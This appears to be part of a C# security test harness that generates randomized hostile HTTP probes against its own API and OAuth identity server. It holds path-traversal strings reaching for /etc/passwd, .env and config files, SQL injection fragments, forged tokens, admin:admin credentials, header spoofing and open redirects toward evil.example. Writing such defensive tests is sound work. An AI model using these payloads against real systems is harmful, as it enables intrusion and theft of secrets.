        IReadOnlyList<(string, string)> headers = Chance(0.2) ? [("Content-Encoding", One("gzip", "br", "deflate", "identity, gzip", "x-unknown"))] : [];
        var (path, victimTarget) = Fill(endpoint.Template, attacker, aimAtVictim: attacker == Caller.Victim || Chance(0.3));
        var bytes = Encoding.UTF8.GetBytes(body);
        if (headers.Count > 0 && headers[0].Item2 == "gzip" && Chance(0.5))
        {
            using var compressed = new MemoryStream();
            using (var gzip = new System.IO.Compression.GZipStream(compressed, System.IO.Compression.CompressionLevel.Fastest))
            {
                gzip.Write(bytes);
            }

            bytes = compressed.ToArray();
        }

        return Api("content-types", attacker, endpoint.Method, endpoint.Template, path, bytes, contentType, headers, victimTarget,
            mustBeRejected: attacker == Caller.Victim);
    }

    private Probe DuplicatedHeadersProbe()
    {
        var attacker = _world.Authorization[(Caller.Attacker, "users-api")];
        var forged = _world.Authorization[(Caller.ExpiredToken, "users-api")];
        var admin = _world.Authorization[(Caller.Admin, "users-api")];
        var duplicates = _random.Next(9) switch
        {
            0 => new[] { ("Authorization", attacker), ("Authorization", forged) },
            1 => [("Authorization", forged), ("Authorization", attacker)],
            2 => [("Authorization", attacker), ("Authorization", attacker)],
            3 => [("Idempotency-Key", "k1"), ("Idempotency-Key", "k2")],
            4 => [("If-Match", "\"0\""), ("If-Match", "\"1\"")],
            5 => [("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-For", "10.0.0.1")],
            6 => [("Cookie", "a=1"), ("Cookie", "backend.session=forged")],
            7 => [("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"), ("traceparent", "00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff")],
            _ => [("Authorization", $"Basic {Convert.ToBase64String(Encoding.ASCII.GetBytes("admin:admin"))}"), ("Authorization", admin.Replace("Bearer ", "Bearer x", StringComparison.Ordinal))],
        };
        var victimWrite = Chance(0.3);
        if (victimWrite)
        {
            // The victim's own write with two Idempotency-Keys or two stale If-Match: refused, nothing changed.
            var victimHeaders = Chance(0.5)
                ? new[] { ("Idempotency-Key", "v1"), ("Idempotency-Key", "v2") }
                : [("If-Match", "\"0\""), ("If-Match", "\"1\"")];
            var isOrder = victimHeaders[0].Item1 == "Idempotency-Key";
            return Api("duplicated-headers", Caller.Victim, isOrder ? "POST" : "PATCH", isOrder ? "/api/v1/orders" : "/api/v1/users/me",
                isOrder ? "/api/v1/orders" : "/api/v1/users/me",
                isOrder ? Json(new { items = new[] { new { sku = Pick(_world.OrderableSkus), quantity = 1 } } }) : Json(new { name = "Duplicated" }),
                isOrder ? "application/json" : "application/merge-patch+json", victimHeaders, false, mustBeRejected: true);
        }

        var (target, victim) = Fill(One("/api/v1/users/{id}", "/api/v1/users/me", "/api/v1/orders/{id}"), Caller.Attacker, aimAtVictim: Chance(0.5));
        var explicitAuth = duplicates.Any(d => d.Item1 == "Authorization");
        return Api("duplicated-headers", explicitAuth ? Caller.OtherScheme : Caller.Attacker, "GET", "/api/v1/{resource}/{id}", target, null, null, duplicates,
            victim, authorize: !explicitAuth);
    }

    private Probe OversizedProbe()
    {
        var caller = PickCaller((Caller.Attacker, 60), (Caller.Victim, 20), (Caller.Anonymous, 20));
        var path = caller == Caller.Victim ? "/api/v1/users/me" : $"/api/v1/users/{_world.Victim.Id}";
        var victimTarget = caller != Caller.Victim;
        var patch = Json(new { name = "Oversized" });
        return _random.Next(9) switch
        {
            0 => Api("oversized", caller, "PATCH", "/api/v1/users/{id}", path, patch, "application/merge-patch+json", [("X-Padding", new string('p', 20_000))], victimTarget, mustBeRejected: true),
            1 => Api("oversized", caller, "PATCH", "/api/v1/users/{id}", path, patch, "application/merge-patch+json",
                [.. Enumerable.Range(0, 70).Select(i => ($"X-Pad-{i}", "p"))], victimTarget, mustBeRejected: true),
            2 => Api("oversized", caller, "PATCH", "/api/v1/users/{id}", path, patch, "application/merge-patch+json", [("X-Padding", new string('p', 70_000))], victimTarget, mustBeRejected: true),
            3 => Api("oversized", caller, "PATCH", "/api/v1/users/{id}", path, patch, "application/merge-patch+json",
                [.. Enumerable.Range(0, 150).Select(i => ($"X-Pad-{i}", "p"))], victimTarget, mustBeRejected: true),
            4 => Api("oversized", Caller.OtherScheme, "GET", "/api/v1/users/{id}", path, null, null, [("Authorization", "Bearer " + new string('A', 17_000))], victimTarget, authorize: false),
            5 => Api("oversized", caller, "GET", "/api/v1/users/{id}", path, null, null, [("Cookie", "c=" + new string('c', 20_000))], victimTarget),
            6 => Api("oversized", caller, "GET", "/api/v1/users", "/api/v1/users?name_prefix=" + new string('a', _random.Next(2) == 0 ? 5_000 : 20_000), null, null, [], false),
            7 => Api("oversized", caller, "PATCH", "/api/v1/users/{id}", path, Encoding.UTF8.GetBytes("{\"name\":\"" + new string('n', One(70_000, 1_200_000)) + "\"}"),
                "application/merge-patch+json", [], victimTarget, chunked: Chance(0.5), mustBeRejected: true),
            _ => Api("oversized", caller, "POST", "/api/v1/orders", "/api/v1/orders",
                Encoding.UTF8.GetBytes("{\"items\":[" + string.Join(',', Enumerable.Range(0, 3_000).Select(i => $$"""{"sku":"OVERSIZED-ORDER-LINE-{{i}}","quantity":1}""")) + "]}"),
                "application/json", [], false, chunked: Chance(0.5), mustBeRejected: true),
        };
    }

    private Probe ForwardingHeadersProbe()
    {
        (string, string)[] headers = _random.Next(17) switch
        {
            0 => [("X-Forwarded-For", One("127.0.0.1", "10.0.0.1", "::1", "1.1.1.1, 127.0.0.1", "' OR 1=1--", "unknown", "999.999.999.999"))],
            1 => [("X-Real-IP", "127.0.0.1"), ("True-Client-IP", "127.0.0.1"), ("X-Client-IP", "127.0.0.1"), ("X-Originating-IP", "127.0.0.1")],
            2 => [("Forwarded", "for=127.0.0.1;host=evil.example;proto=https")],
            3 => [("X-Forwarded-Host", HostileWorld.EvilHost)],
            4 => [("X-Forwarded-Proto", One("https", "javascript", "gopher", ""))],
            5 => [("X-Forwarded-Prefix", One("/evil", "//evil.example", "/%2e%2e"))],
            6 => [("X-Original-URL", $"/api/v1/users/{_world.Victim.Id}")],
            7 => [("X-Rewrite-URL", "/api/v1/reports/top-customers")],
            8 => [("X-HTTP-Method-Override", One("DELETE", "PUT", "PATCH"))],
            9 => [("X-HTTP-Method", "DELETE"), ("X-Method-Override", "DELETE")],
            10 => [("Connection", One("close, Authorization", "X-Forwarded-For", "Keep-Alive, TE", "Authorization"))],
            11 => [("TE", "trailers"), ("Trailer", "Authorization")],
            12 => [("Proxy-Authorization", _world.Authorization[(Caller.ExpiredToken, "users-api")]), ("Proxy-Connection", "keep-alive")],
            13 => [("X-Forwarded-Port", "1"), ("X-Forwarded-Scheme", "javascript"), ("X-Url-Scheme", "https")],
            14 => [("Max-Forwards", "0")],
            15 => [("Host", HostileWorld.EvilHost)],
            _ => [("X-Forwarded-Host", HostileWorld.EvilHost), ("X-Forwarded-Proto", "https"), ("X-Forwarded-Prefix", "/evil")],
        };

        // The victim only reads here (an honoured method override would turn the read into a delete: the snapshot would show it).
        var caller = PickCaller((Caller.Attacker, 50), (Caller.Victim, 25), (Caller.Anonymous, 25));
        return _random.Next(5) switch
        {
            0 => Public("forwarding-headers", "GET", "/.well-known/openid-configuration", headers),
            1 => Public("forwarding-headers", "GET", AuthorizeQuery(valid: true), headers),
            2 => Public("forwarding-headers", "GET", "/account/login?ReturnUrl=%2Fconnect%2Fauthorize", headers),
            _ => caller == Caller.Victim
                ? Api("forwarding-headers", caller, "GET", "/api/v1/users/me", "/api/v1/users/me", null, null, headers, false)
                : Api("forwarding-headers", caller, One("GET", "POST"), "/api/v1/users/{id}", $"/api/v1/users/{_world.Victim.Id}", null, null, headers, true),
        };
    }

    // ---- paths, queries, methods, preconditions, idempotency ----

    private Probe PathTraversalProbe()
    {
        var victimId = _world.Victim.Id;
        var order = _world.VictimOrderIds[0];
        var paths = new[]
        {
            "/api/v1/users/../../health/ready", "/api/v1/users/..%2f..%2fhealth%2fready", "/api/v1/users/%2e%2e/%2e%2e/openapi/v1.json",
            "/api/v1/users/%2e%2e%2f%2e%2e%2fapi%2fv1%2freports%2ftop-customers", "/api/v1/orders/..%252f..%252fusers", $"/api/v1/users/me/../{victimId}",
            $"/api/v1/users/me/%2e%2e/{victimId}", $"/api/v1/orders/{order}/..%2f..%2f{_world.VictimOrderIds[1]}", "/api/v1/users/....//....//etc/passwd",
            "/api/v1/users/..%5c..%5c..%5cwindows%5cwin.ini", "/.well-known/../../../etc/passwd", "/.well-known/%2e%2e/%2e%2e/appsettings.json",
            "/account/..%2f..%2fappsettings.json", $"/connect/..%2f..%2fapi/v1/users/{victimId}", "/openapi/users.json/../../../../etc/passwd",
            "/api/v1/users/%00", "/api/v1/users/me%00", "/api/v1/users/me%00.json", "//api//v1//users//me", "/api/v1/users/me;.json",
            "/api/v1/users/me;jsessionid=1", "/api/v1/users/%2fme", "/api/v1/users/..;/..;/admin", "/api/v1/../v1/users/me", "/API/V1/USERS/ME",
            "/api/v1/users/me/", "/api/v1/users/me//", "/api/v1/users/me/./", $"/api/v1/users/./{victimId}", "/api/v1/users/%c0%ae%c0%ae/%c0%ae%c0%ae/",
            "/api/v1/users/%u002e%u002e/", "/api/v1/users/%ef%bc%8f", "/api/v1/users/..%c0%af..%c0%afetc", $"/api/v1/reports/../users/{victimId}",
            "/appsettings.json", "/web.config", "/.env", "/.git/config", "/bin/Gateway.dll", "/Gateway.dll", "/health/../appsettings.json",
            "/api/v1/users/%", "/api/v1/users/%zz", "/api/v1/users/%25%32%65%25%32%65", $"/api/v1/orders/{order}%2fcancel", $"/api/v1/orders/{order}/cancel/..",
            "/api", "/api/v1", "/api/v2/users/me", "/api/v1/admin", "/admin", "/", "/connect", "/.well-known", "/account", "/openapi/v1.json", "/openapi/identity.json",
            "/scalar", "/docs/../appsettings.json", "/health", "/metrics", "/swagger", "/swagger/index.html", "/_framework/blazor.web.js", "/.well-known/jwks/../../",
        };
        var path = Pick(paths);
        var caller = PickCaller((Caller.Attacker, 60), (Caller.Anonymous, 25), (Caller.Victim, 15));
        var method = caller == Caller.Victim ? "GET" : One("GET", "GET", "DELETE", "POST", "PUT");
        var body = method is "POST" or "PUT" ? Json(new { name = "Traversal" }) : null;
        var targetsVictim = path.Contains(victimId.ToString(), StringComparison.Ordinal) || _world.VictimOrderIds.Any(o => path.Contains(o, StringComparison.Ordinal));
        return Api("path-traversal", caller, method, "(traversal)", path, body, body is null ? null : "application/json", [], targetsVictim,
            mustBeRejected: targetsVictim && caller != Caller.Victim);
    }

    private Probe HostileQueryProbe()
    {
        var limits = new[] { "0", "-1", "101", "2147483648", "1e2", "0x10", "", "ten", "%205", "5%20", "%D9%A5", "%2B5", "5.0", "99999999999999999999", "1&limit=2", "5%00" };
        var statuses = new[] { "1", "-1", "pending,shipped", "PENDING", "pending%20", "", "all", "pending%00", "shipped;DROP", "Pending,Confirmed,Shipped,Cancelled", "99", "%27" };
        var cursor = HostileCursor();
        var section = _random.Next(4);
        if (section == 0 || section == 1)
        {
            var query = _random.Next(6) switch
            {
                0 => $"limit={Pick(limits)}",
                1 => $"status={Pick(statuses)}",
                2 => $"cursor={cursor}",
                3 => $"user_id={One("not-a-guid", "", _world.Attacker.Id.ToString(), "00000000-0000-0000-0000-000000000000", "%27")}",
                4 => $"limit[]=1&status[$ne]=x&foo=bar&{One("cursor=", "cursor=e30", "cursor=bnVsbA", "cursor=W10")}",
                _ => $"limit={Pick(limits)}&status={Pick(statuses)}&cursor={cursor}",
            };
            var caller = PickCaller((Caller.Attacker, 60), (Caller.Victim, 20), (Caller.Admin, 20));
            return Api("hostile-queries", caller, "GET", "/api/v1/orders", "/api/v1/orders?" + query, null, null, [], false);
        }

        if (section == 2)
        {
            var query = _random.Next(4) switch
            {
                0 => $"email_prefix={Uri.EscapeDataString(Pick(Injections))}&name_prefix={Uri.EscapeDataString(Pick(Injections))}",
                1 => $"limit={Pick(limits)}",
                2 => $"cursor={HostileUserCursor()}",
                _ => $"email_prefix=%25&name_prefix=_&limit=100&cursor={HostileUserCursor()}",
            };
            return Api("hostile-queries", Chance(0.8) ? Caller.Admin : Caller.Attacker, "GET", "/api/v1/users", "/api/v1/users?" + query, null, null, [], false);
        }

        var minTotals = new[] { "-1", "1e400", "NaN", "Infinity", "1000000000000.01", "0.001", "1,5", "%D9%A1", "79228162514264337593543950336", "-0", "1e12", "0x10", "" };
        var reportQuery = _random.Next(3) switch
        {
            0 => $"min_total={Pick(minTotals)}",
            1 => $"cursor={HostileTopCustomerCursor()}",
            _ => $"min_total={Pick(minTotals)}&limit={Pick(limits)}&cursor={HostileTopCustomerCursor()}",
        };
        return Api("hostile-queries", Chance(0.8) ? Caller.Admin : Caller.Attacker, "GET", "/api/v1/reports/top-customers", "/api/v1/reports/top-customers?" + reportQuery,
            null, null, [], false);
    }

    private static string Cursor(string json) => System.Buffers.Text.Base64Url.EncodeToString(Encoding.UTF8.GetBytes(json));

    private string HostileCursor()
    {
        var id = Guid.NewGuid();
        return _random.Next(14) switch
        {
            0 => Cursor($$"""{"createdAt":"2026-01-01T00:00:00+05:00","id":"{{id}}"}"""),
            1 => Cursor($$"""{"createdAt":"2026-01-01T00:00:00-12:00","id":"{{id}}"}"""),
            2 => Cursor($$"""{"createdAt":"0001-01-01T00:00:00+00:00","id":"{{id}}"}"""),
            3 => Cursor($$"""{"createdAt":"9999-12-31T23:59:59.9999999+00:00","id":"{{id}}"}"""),
            4 => Cursor($$"""{"createdAt":"0001-01-01T00:00:00+14:00","id":"{{id}}"}"""),
            5 => Cursor($$"""{"createdAt":"2026-02-30T00:00:00Z","id":"{{id}}"}"""),
            6 => Cursor($$"""{"createdAt":12345,"id":"{{id}}"}"""),
            7 => Cursor("""{"createdAt":"2026-01-01T00:00:00Z","id":"not-a-guid"}"""),
            8 => Cursor($$"""{"createdAt":"2026-01-01T00:00:00Z","id":"{{id}}","extra":1}"""),
            9 => Cursor($$"""{"CREATEDAT":"2026-01-01T00:00:00+01:00","ID":"{{id}}"}"""),
            10 => Cursor(new string('[', 100) + new string(']', 100)),
            11 => Uri.EscapeDataString(Pick(Injections)),
            12 => new string('A', 600),
            _ => Cursor($$"""{"createdAt":"2026-01-01T00:00:00Z","id":"{{_world.VictimOrderIds[0]}}","userId":"{{_world.Victim.Id}}"}"""),
        };
    }

    private string HostileUserCursor() => _random.Next(5) switch
    {
        0 => Cursor("""{"id":"not-a-guid"}"""),
        1 => Cursor("""{"id":null}"""),
        2 => Cursor($$"""{"id":"{{_world.Victim.Id}}","email":"x"}"""),
        3 => Cursor("{\"id\":\"" + new string('f', 300) + "\"}"),
        _ => Cursor($$"""{"ID":"{{Guid.Empty}}"}"""),
    };

    private string HostileTopCustomerCursor() => _random.Next(8) switch
    {
        0 => Cursor($$"""{"totalSpent":79228162514264337593543950335,"userId":"{{Guid.NewGuid()}}"}"""),
        1 => Cursor($$"""{"totalSpent":-79228162514264337593543950335,"userId":"{{Guid.NewGuid()}}"}"""),
        2 => Cursor($$"""{"totalSpent":0.0000000000000000000000000001,"userId":"{{Guid.NewGuid()}}"}"""),
        3 => Cursor($$"""{"totalSpent":"1","userId":"{{Guid.NewGuid()}}"}"""),
        4 => Cursor($$"""{"totalSpent":"NaN","userId":"{{Guid.NewGuid()}}"}"""),
        5 => Cursor($$"""{"totalSpent":1e400,"userId":"{{Guid.NewGuid()}}"}"""),
        6 => Cursor("""{"totalSpent":1}"""),
        _ => Cursor($$"""{"totalSpent":98765.43,"userId":"{{_world.Victim.Id}}"}"""),
    };

    private static readonly string[] Methods =
    [
        "TRACE", "TRACK", "PROPFIND", "PROPPATCH", "MKCOL", "COPY", "MOVE", "LOCK", "UNLOCK", "PURGE", "DEBUG", "SEARCH", "QUERY", "FOO", "OPTIONS",
        "HEAD", "PATCH", "PUT", "DELETE", "POST", "GET", "M-SEARCH", "BREW", "LINK", "UNLINK", "VERSION-CONTROL",
    ];

    private Probe MethodProbe()
    {
        var caller = PickCaller((Caller.Attacker, 60), (Caller.Victim, 20), (Caller.Anonymous, 20));
        var method = caller == Caller.Victim ? One("GET", "HEAD", "OPTIONS", "TRACE", "PROPFIND", "SEARCH") : Pick(Methods);
        var paths = new[]
        {
            "/api/v1/users/me", $"/api/v1/users/{_world.Victim.Id}", "/api/v1/users", "/api/v1/orders", $"/api/v1/orders/{_world.VictimOrderIds[0]}",
            $"/api/v1/orders/{_world.VictimOrderIds[0]}/cancel", "/api/v1/reports/top-customers", "/connect/token", "/connect/authorize", "/connect/userinfo",
            "/.well-known/openid-configuration", "/.well-known/jwks", "/account/login", "/account/register", "/health/live", "/docs", "/openapi/users.json",
        };
        var path = Pick(paths);
        var targetsVictim = path.Contains(_world.Victim.Id.ToString(), StringComparison.Ordinal) || path.Contains(_world.VictimOrderIds[0], StringComparison.Ordinal);
        var headers = new List<(string, string)>();
        if (method == "OPTIONS" && Chance(0.6))
        {
            headers.Add(("Origin", One("http://evil.example", "null", "http://localhost:5173.evil.example", "file://")));
            headers.Add(("Access-Control-Request-Method", One("DELETE", "PUT", "PATCH", "GET")));
            headers.Add(("Access-Control-Request-Headers", "authorization, content-type, if-match"));
        }

        if (Chance(0.2))
        {
            headers.Add(("X-HTTP-Method-Override", One("DELETE", "PUT", "PATCH", "POST")));
        }

        if (method == "TRACE" && Chance(0.5))
        {
            headers.Add(("Max-Forwards", "0"));
        }

        var api = path.StartsWith("/api/", StringComparison.Ordinal);
        var probe = api
            ? Api("methods", caller, method, "(any)", path, null, null, headers, targetsVictim && caller != Caller.Victim)
            : Public("methods", method, path, headers);
        return probe;
    }

    private Probe ConditionalProbe()
    {
        if (Chance(0.55))
        {
            // The victim's own valid writes, each with an If-Match that names no current version: 412, nothing changed.
            var ifMatch = Pick(BadIfMatch);
            var (method, path, body, type) = _random.Next(6) switch
            {
                0 => ("PUT", "/api/v1/users/me", Json(new { email = _world.Victim.Email, name = "Changed despite If-Match" }), "application/json"),
                1 => ("PATCH", "/api/v1/users/me", Json(new { name = "Changed despite If-Match" }), "application/merge-patch+json"),
                2 => ("PATCH", $"/api/v1/users/{_world.Victim.Id}", Json(new { name = "Changed despite If-Match" }), "application/merge-patch+json"),
                3 => ("DELETE", "/api/v1/users/me", null, null),
                4 => ("DELETE", $"/api/v1/users/{_world.Victim.Id}", null, null),
                _ => ("POST", $"/api/v1/orders/{Pick(_world.VictimOrderIds)}/cancel", null, null),
            };
            return Api("conditionals", Caller.Victim, method, path, path, body, type, [("If-Match", ifMatch)], false, mustBeRejected: true);
        }

        var caller = PickCaller((Caller.Attacker, 70), (Caller.AttackerReadOnly, 15), (Caller.Anonymous, 15));
        var conditional = One(
            ("If-Match", "*"), ("If-None-Match", "*"), ("If-None-Match", "garbage"), ("If-Modified-Since", "yesterday"), ("If-Unmodified-Since", "Thu, 01 Jan 1970 00:00:00 GMT"),
            ("If-Range", "\"0\""), ("Range", "bytes=0-0"), ("Range", "bytes=999999999999999999-"), ("Range", "bytes=-1,-2,-3,-4,-5,-6,-7,-8,-9,-10"), ("If-Match", "W/\"1\""));
        var (target, victim) = Fill(One("/api/v1/users/{id}", "/api/v1/orders/{id}", "/api/v1/users/me"), caller, aimAtVictim: Chance(0.6));
        var method2 = One("GET", "DELETE", "PATCH");
        var patchBody = method2 == "PATCH" ? Json(new { name = "Conditional" }) : null;
        return Api("conditionals", caller, method2, "(conditional)", target, patchBody, patchBody is null ? null : "application/merge-patch+json", [conditional], victim);
    }

    private Probe IdempotencyProbe()
    {
        var body = Json(new { items = new[] { new { sku = Pick(_world.OrderableSkus), quantity = 1 + _random.Next(3) } } });
        var invalidKeys = new[] { "", " ", "ключ", "a b", "\t", new string('k', 256), "😀", "k\u007f", "k\u00a0" };
        var roll = _random.Next(5);
        if (roll == 0)
        {
            return Api("idempotency", Caller.Victim, "POST", "/api/v1/orders", "/api/v1/orders", body, "application/json", [("Idempotency-Key", Pick(invalidKeys))], false, mustBeRejected: true);
        }

        if (roll == 1)
        {
            return Api("idempotency", Caller.Attacker, "POST", "/api/v1/orders", "/api/v1/orders", body, "application/json", [("Idempotency-Key", Pick(invalidKeys))], false);
        }

        if (roll == 2)
        {
            // A few keys reused with other bodies and other paths: replay, 422 or 409 (at most one order per key).
            return Api("idempotency", Caller.Attacker, "POST", "/api/v1/orders", "/api/v1/orders", body, "application/json", [("Idempotency-Key", Pick(_idempotencyKeys))], false);
        }

        var order = Pick(_world.VictimOrderIds);
        return Api("idempotency", PickCaller((Caller.Attacker, 80), (Caller.Anonymous, 20)), "POST", "/api/v1/orders/{id}/cancel", $"/api/v1/orders/{order}/cancel",
            null, null, [("Idempotency-Key", Chance(0.5) ? Pick(_idempotencyKeys) : Pick(invalidKeys))], true);
    }

    // ---- identity: OAuth endpoints, discovery, account pages ----

    private Probe OAuthProbe()
    {
        var roll = _random.Next(20);
        if (roll < 9)
        {
            return TokenEndpointProbe();
        }

        if (roll < 13)
        {
            var query = AuthorizeQuery(valid: Chance(0.2));
            return Chance(0.8)
                ? Public("oauth", "GET", query, [])
                : Public("oauth", "POST", "/connect/authorize", [], Encoding.UTF8.GetBytes(query.Split('?', 2)[1]), "application/x-www-form-urlencoded");
        }

        if (roll < 15)
        {
            // Not WrongAudience: the user-info endpoint takes access tokens for any API, so that one is simply valid there.
            var caller = Pick(UserInfoCallers);
            var probe = Chance(0.7)
                ? Public("oauth", One("GET", "POST"), "/connect/userinfo", [])
                : Public("oauth", "POST", "/connect/userinfo", [], Form(("access_token", One("garbage", _world.Victim.AccessToken[..40], ""))), "application/x-www-form-urlencoded");
            var auth = Authorization(caller, "users-api");
            return probe with { Caller = caller, Headers = auth is null ? probe.Headers : [.. probe.Headers, ("Authorization", auth)] };
        }

        if (roll < 17)
        {
            var endpoint = Chance(0.5) ? "/connect/revoke" : "/connect/introspect";
            var form = Form(
                ("token", One("garbage", TamperedRefreshToken(), _world.Authorization[(Caller.ExpiredToken, "users-api")][7..], "", Pick(Injections))),
                ("token_type_hint", One("refresh_token", "access_token", "id_token", Pick(Injections))),
                ("client_id", One("web", "service", "mobile", "unknown", "")),
                ("client_secret", One("wrong", "", Pick(Injections))));
            return Public("oauth", "POST", endpoint, [], form, "application/x-www-form-urlencoded");
        }

        if (roll < 19)
        {
            var query = QueryString(
                ("post_logout_redirect_uri", Pick(EvilRedirects)), ("id_token_hint", One("garbage", _world.Attacker.AccessToken, "")),
                ("state", Pick(Injections)), ("client_id", One("web", "mobile", "unknown")));
            return Chance(0.7)
                ? Public("oauth", "GET", "/connect/logout?" + query, [])
                : Public("oauth", "POST", "/connect/logout", [], Encoding.UTF8.GetBytes(query), "application/x-www-form-urlencoded");
        }

        return Public("oauth", One("GET", "PUT", "DELETE", "POST"), One("/connect/token", "/connect/unknown", "/connect/", "/connect/token/..%2fuserinfo", "/connect/authorize/extra"), []);
    }

    private string TamperedRefreshToken()
    {
        var token = _world.Attacker.RefreshToken ?? "x";
        var chars = token.ToCharArray();
        var at = _random.Next(chars.Length);
        chars[at] = chars[at] == 'A' ? 'B' : 'A';
        return new string(chars);
    }

    private Probe TokenEndpointProbe()
    {
        var fields = new List<(string, string)>();
        var grant = One(
            "password", "client_credentials", "authorization_code", "refresh_token", "implicit", "urn:ietf:params:oauth:grant-type:jwt-bearer",
            "urn:ietf:params:oauth:grant-type:device_code", "", Pick(Injections), new string('g', 5_000), "(omitted)");
        if (grant != "(omitted)")
        {
            fields.Add(("grant_type", grant));
        }

        var client = One("web", "mobile", "service", "", Pick(Injections), new string('c', 3_000), "web\0", "(omitted)");
        if (client != "(omitted)")
        {
            fields.Add(("client_id", client));
        }

        if (Chance(0.4))
        {
            fields.Add(("client_secret", One("wrong", Pick(Injections), new string('s', 5_000))));
        }

        switch (grant)
        {
            case "authorization_code":
                fields.Add(("code", One("garbage", _world.Attacker.AccessToken, "", Pick(Injections), TamperedRefreshToken())));
                fields.Add(("redirect_uri", Pick(EvilRedirects.Concat(WebRedirects).ToArray())));
                fields.Add(("code_verifier", One("abc", new string('v', 200), Pick(Injections))));
                break;
            case "refresh_token":
                fields.Add(("refresh_token", One(TamperedRefreshToken(), "garbage", _world.Attacker.AccessToken, "")));
                break;
            case "password":
                fields.Add(("username", _world.Victim.Email));
                fields.Add(("password", One("password", "' OR '1'='1", "correct horse")));
                break;
        }

        if (Chance(0.5))
        {
            fields.Add(("scope", One("openid users.admin.read", "admin", "openid " + new string('s', 3_000), Pick(Injections), "users.read users.read", "users.read orders.write")));
        }

        if (Chance(0.15))
        {
            fields.Add(("grant_type", "client_credentials")); // duplicated parameter
        }

        var (body, type) = _random.Next(10) switch
        {
            0 => (JsonObject(fields), "application/json"),
            1 => (Form([.. fields]), null),
            2 => (Form([.. fields]), "multipart/form-data; boundary=xyz"),
            3 => ([.. Form([.. fields]), .. "&x=%FF%FE%C0%AF"u8.ToArray()], "application/x-www-form-urlencoded"),
            4 => ([.. Form([.. fields]), .. "&y="u8.ToArray(), 0xFF, 0xFE], "application/x-www-form-urlencoded; charset=utf-8"),
            _ => (Form([.. fields]), "application/x-www-form-urlencoded"),
        };
        return Public("oauth", "POST", "/connect/token", [], body, type);
    }

    private string AuthorizeQuery(bool valid)
    {
        var (_, challenge) = OidcClient.NewPkce();
        string Maybe(string[] choices, string validChoice) => valid ? validChoice : Pick(choices);
        var pairs = new List<(string, string)>
        {
            ("client_id", Maybe(["web", "mobile", "service", "unknown", Pick(Injections), "(omitted)"], "web")),
            ("redirect_uri", Maybe([.. EvilRedirects, "(omitted)", WebRedirects[0]], WebRedirects[0])),
            ("response_type", Maybe(["code", "token", "id_token", "code token", "none", "", Pick(Injections), "(omitted)"], "code")),
            ("scope", Maybe(["openid", "openid users.read", "openid users.admin.read admin", Pick(Injections), "openid " + new string('s', 2_000), "(omitted)"], "openid users.read")),
            ("state", Maybe([Guid.NewGuid().ToString("N"), Pick(Injections), new string('x', 2_000), "(omitted)"], Pick(Injections))),
            ("code_challenge", Maybe([challenge, "short", Pick(Injections), "(omitted)"], challenge)),
            ("code_challenge_method", Maybe(["S256", "plain", "", "RS256", "(omitted)"], "S256")),
            ("prompt", One("(omitted)", "(omitted)", "none", "login", "consent", "none login", Pick(Injections))),
            ("nonce", One("(omitted)", Pick(Injections))),
            ("max_age", One("(omitted)", "(omitted)", "-1", "abc", "99999999999")),
            ("response_mode", One("(omitted)", "(omitted)", "query", "fragment", "form_post", "web_message", Pick(Injections))),
            ("request", One("(omitted)", "(omitted)", "(omitted)", "eyJhbGciOiJub25lIn0.e30.")),
            ("request_uri", One("(omitted)", "(omitted)", "(omitted)", "https://evil.example/r")),
            ("login_hint", One("(omitted)", _world.Victim.Email, Pick(Injections))),
        };
        return "/connect/authorize?" + QueryString([.. pairs.Where(p => p.Item2 != "(omitted)")]);
    }

    private Probe DiscoveryProbe()
    {
        var path = One(
            "/.well-known/openid-configuration", "/.well-known/jwks", "/.well-known/openid-configuration?x=" + Uri.EscapeDataString(Pick(Injections)),
            "/.well-known/oauth-authorization-server", "/.well-known/security.txt", "/.well-known/..%2f..%2f", "/.well-known/openid-configuration/jwks",
            "/.well-known/jwks?kid=" + Uri.EscapeDataString(Pick(Injections)), "/health/live", "/health/ready", "/docs", "/openapi/users.json", "/openapi/orders.json");
        var method = Chance(0.7) ? "GET" : One("POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS");
        IReadOnlyList<(string, string)> headers = Chance(0.3) ? [("X-Forwarded-Host", HostileWorld.EvilHost), ("X-Forwarded-Proto", "https")] : [];
        return Public("discovery", method, path, headers, method is "POST" or "PUT" or "PATCH" ? Json(new { issuer = "http://evil.example/" }) : null,
            method is "POST" or "PUT" or "PATCH" ? "application/json" : null);
    }

    private Probe AccountPageProbe()
    {
        var roll = _random.Next(10);
        var returnUrl = Pick(EvilRedirects.Concat(new[] { Pick(Injections), new string('r', 3_000), "/account/logout", "%2F%2Fevil.example" }).ToArray());
        if (roll < 3)
        {
            var page = One("/account/login", "/account/register", "/account/Login", "/account/index", "/account/logout", "/account/admin", "/account/login.cshtml", "/account/_Layout", "/account/");
            return Public("account-pages", "GET", $"{page}?ReturnUrl={Uri.EscapeDataString(returnUrl)}", Chance(0.5) ? [("Accept", "text/html")] : []);
        }

        var email = One($"nobody-{Guid.NewGuid():N}@example.com", Pick(Injections), new string('e', 5_000) + "@example.com", "a%00@example.com", "");
        var password = One("wrong password", Pick(Injections), new string('p', 10_000), "", "short");
        var withForgery = roll >= 5;
        var headers = new List<(string, string)>();
        var fields = new List<(string, string)>();
        if (withForgery)
        {
            headers.Add(("Cookie", _world.AntiforgeryCookie));
            fields.Add(("__RequestVerificationToken", Chance(0.9) ? _world.AntiforgeryToken : _world.AntiforgeryToken[..^4] + "AAAA"));
        }
        else if (Chance(0.5))
        {
            fields.Add(("__RequestVerificationToken", _world.AntiforgeryToken)); // token without its cookie
        }

        string path;
        if (roll < 8)
        {
            path = $"/account/login?ReturnUrl={Uri.EscapeDataString(returnUrl)}";
            fields.Add(("Email", email));
            fields.Add(("Password", password));
        }
        else if (roll == 8)
        {
            // Registration with hostile values: a valid one creates an account (whose name is the injection, verbatim).
            path = $"/account/register?ReturnUrl={Uri.EscapeDataString(returnUrl)}";
            fields.Add(("DisplayName", Pick(Injections.Concat(ControlInjections).Append(new string('n', 500)).ToArray())));
            fields.Add(("Email", Chance(0.3) ? _world.Victim.Email : Chance(0.5) ? $"reg-{Guid.NewGuid():N}@example.com" : email));
            fields.Add(("Password", Chance(0.5) ? "correct horse battery" : password));
        }
        else
        {
            path = "/account/logout";
        }

        var (body, type) = _random.Next(8) switch
        {
            0 => (JsonObject(fields), "application/json"),
            1 => (Form([.. fields]), "multipart/form-data; boundary=----x"),
